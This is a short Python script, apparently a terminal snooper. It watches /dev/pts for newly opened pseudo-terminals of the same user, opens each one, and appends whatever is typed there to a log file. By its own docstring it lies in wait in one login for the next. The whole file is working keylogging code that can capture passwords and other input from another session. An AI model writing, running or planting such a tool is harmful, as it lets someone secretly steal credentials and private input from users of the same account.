"""Open every terminal of ours that appears, before anybody closes it, and read what is typed there.

Arguments: the file that keeps what was read. Left running in one login, it waits for the next.
"""

from __future__ import annotations

import os
import sys
import time

SECONDS = 120
NAMES = "/dev/pts"

before = set(os.listdir(NAMES))
deadline = time.monotonic() + SECONDS
print("lurking", flush=True)
while time.monotonic() < deadline:
    names = set(os.listdir(NAMES))
    before &= names  # a name that has gone comes again
    for name in names - before:
        try:
            fd = os.open(f"{NAMES}/{name}", os.O_RDWR | os.O_NOCTTY)
        except OSError:
            continue
        while data := os.read(fd, 4096):
            with open(sys.argv[1], "ab") as file:
                file.write(data)
        sys.exit()
